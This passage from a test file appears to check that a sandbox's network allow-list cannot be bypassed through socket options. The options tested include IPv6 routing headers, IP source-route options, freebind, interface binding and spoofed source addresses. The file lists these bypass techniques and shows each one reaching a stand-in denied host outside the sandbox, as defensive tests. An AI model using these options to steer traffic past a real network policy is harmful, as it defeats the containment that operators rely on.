    const ins = await inside([], [fixture('net_share'), 'tcp-serve', 'none', '127.0.0.1', String(port), '1', 'impostor']);
    expect(ins.stdout).toMatch(/^setsockopt: ok\nerror bind: Address already in use/);
    victim.child.kill('SIGKILL');
    const names = ['SO_BINDTODEVICE', 'SO_BINDTOIFINDEX', 'IP_TRANSPARENT', 'IP_FREEBIND'];
    const out = await outside([fixture('net_share'), 'sockopts']);
    for (const o of ['SO_BINDTODEVICE', 'SO_BINDTOIFINDEX', 'IP_FREEBIND']) expect(out.stdout).toMatch(new RegExp(`^${o}: ok$`, 'm'));
    const opts = await inside([], [fixture('net_share'), 'sockopts']);
    for (const o of names) expect(opts.stdout).toMatch(new RegExp(`^${o}: Operation not permitted$`, 'm'));
  });
});

// helper-87 #01: the engine decides a send's address and sends on the program's own socket, so
// any socket option that sends a packet elsewhere than the address it names (an IPv6 routing
// header, an IPv4 source route) would take a decided packet to a host the policy denies. Each
// case runs in a network namespace of its own (loopback up, fd5b::7 on it standing for the
// denied host), with CAP_NET_RAW there to watch loopback.
describe('a socket option cannot send a decided packet elsewhere', () => {
  const P = fixture('route_opts');
  const inNetns = (script: string) =>
    outside(['unshare', ...(isRoot ? ['-n'] : ['-rn']), 'sh', '-c', `ip link set lo up && ip addr add fd5b::7/128 dev lo && ${script}`]);
  const only1 = `${sbxBin} exec --allow-net='[::1]:9' --`;

  it('outside, a routing header sends a datagram for [::1]:9 to fd5b::7; inside, setting it is refused (and fd5b::7 straight); twin: the plain send to [::1]:9 goes', async () => {
    const r = await inNetns([`${P} rthdr fd5b::7 ::1 9 capture`, `${only1} ${P} rthdr fd5b::7 ::1 9`, `${only1} ${P} plain fd5b::7 9`, `${only1} ${P} plain ::1 9`].join('; '));
    expect(r.stdout.split('\n').slice(0, 4)).toEqual([
      'ok sent to [::1]:9, captured dst fd5b::7',
      'error setsockopt IPV6_RTHDR: Operation not permitted (errno 1)',
      'error sendto: Permission denied (errno 13)',
      'ok sent to [::1]:9',
    ]);
    expect(r.stderr).toMatch(/sbx: denied net setsockopt IPV6_RTHDR \(/);
  });

  it('every IP and IPv6 option that routes or adds headers, and unknown levels, are refused inside (outside each is taken, or unknown); twins: the everyday IP, IPv6 and TCP options', async () => {
    const refused = ['ipv6-rthdr', 'ipv6-2292rthdr', 'ipv6-2292pktoptions', 'ipv6-dstopts', 'ip-options'];
    const everyday = ['ipv6-tclass', 'ipv6-v6only', 'ipv6-recvpktinfo', 'ipv6-unicast-hops', 'ip-tos', 'ip-recverr', 'ip-multicast-ttl', 'tcp-nodelay'];
    const each = (prefix: string) => [...refused, 'level-12345', ...everyday].map((o) => `${prefix} ${P} opt ${o}`).join('; ');
    const out = await inNetns(each(''));
    expect(out.stdout).toBe([...refused.map((o) => `${o} ok`), 'level-12345 Protocol not available', ...everyday.map((o) => `${o} ok`)].join('\n') + '\n');
    const ins = await inNetns(each(only1));
    expect(ins.stdout).toBe([...refused, 'level-12345'].map((o) => `${o} EPERM`).concat(everyday.map((o) => `${o} ok`)).join('\n') + '\n');
  });

  // helper-88 #01-#03: the source address and the interface are the packet's too, and a
  // multicast join makes the kernel send a report carrying the caller's data.
  it('a source address or an interface of its own choosing, and multicast joins under a restricted network, are refused inside (outside each is taken); twins: joins where the network is not restricted', async () => {
    const refused = ['ipv6-freebind', 'ip-freebind', 'ipv6-unicast-if', 'ip-unicast-if', 'ipv6-pktinfo', 'so-bindtodevice', 'so-bindtoifindex', 'ipv6-flowlabel-mgr'];
    const joins = ['ipv6-join-group', 'ip-add-membership', 'mcast-join-source-group'];
    const each = (prefix: string, names: string[]) => names.map((o) => `${prefix} ${P} opt ${o}`).join('; ');
    expect((await inNetns(each('', [...refused, ...joins]))).stdout).toBe([...refused, ...joins].map((o) => `${o} ok\n`).join(''));
    const ins = await inNetns(each(only1, [...refused, ...joins]));
    expect(ins.stdout).toBe([...refused, ...joins].map((o) => `${o} EPERM\n`).join(''));
    expect(ins.stderr).toMatch(/sbx: denied net setsockopt SO_BINDTODEVICE \(/);
    expect(ins.stderr).toMatch(/sbx: denied net setsockopt IPv6 multicast membership \(/);
    expect((await inNetns(each(`${sbxBin} exec --`, joins))).stdout).toBe(joins.map((o) => `${o} ok\n`).join(''));
  });

  it('a send naming another source (IPV6_PKTINFO), and a bind to an address the machine does not have (ip_nonlocal_bind on), are refused inside; twins: an unspecified source, a bind to ::1', async () => {
    const script = (prefix: string) =>
      `echo 1 > /proc/sys/net/ipv6/ip_nonlocal_bind; ${prefix} ${P} pktinfo-src fd5b::7 ::1 9; ${prefix} ${P} bind fd5b::9; ${prefix} ${P} pktinfo-src :: ::1 9; ${prefix} ${P} bind ::1`;
    expect((await inNetns(script(''))).stdout).toBe('ok sent to [::1]:9 from [fd5b::7]\nok bound [fd5b::9]\nok sent to [::1]:9 from [::]\nok bound [::1]\n');
    const ins = await inNetns(script(only1));
    expect(ins.stdout).toBe('error sendmsg: Operation not permitted (errno 1)\nerror bind: Cannot assign requested address (errno 99)\nok sent to [::1]:9 from [::]\nok bound [::1]\n');
    expect(ins.stderr).toMatch(/sbx: denied net bind \[fd5b::9\]:0 \(an address this machine does not have/);
  });

  it('a socket that got a routing header outside, before the sandbox had it: its decided sends are refused; twin: the same socket without one', async () => {
    const r = await inNetns(
      [`${P} hold-rthdr fd5b::7 -- ${only1} ${P} send-fd 200 ::1 9`, `${P} hold-plain -- ${only1} ${P} send-fd 200 ::1 9`].join('; '),
    );
    expect(r.stdout).toBe('error sendto: Permission denied (errno 13)\nok sent to [::1]:9\n');
    expect(r.stderr).toMatch(/sbx: denied net \[::1\]:9 \(the socket was set outside to send along a route/);
  });

  // helper-89 #01: the interface and the source address, set outside, likewise.
  it('a socket pinned to an interface or given a foreign source outside: its decided sends are refused; twin: the plain socket (above)', async () => {
    const opts = ['so-bindtodevice', 'ipv6-unicast-if', 'ipv6-freebind'];
    const r = await inNetns(opts.map((o) => `${P} hold-opt ${o} -- ${only1} ${P} send-fd 200 ::1 9`).join('; '));
    expect(r.stdout).toBe(opts.map(() => 'error sendto: Permission denied (errno 13)\n').join(''));
    expect(r.stderr).toMatch(/sbx: denied net \[::1\]:9 .*set outside/);
  });
});
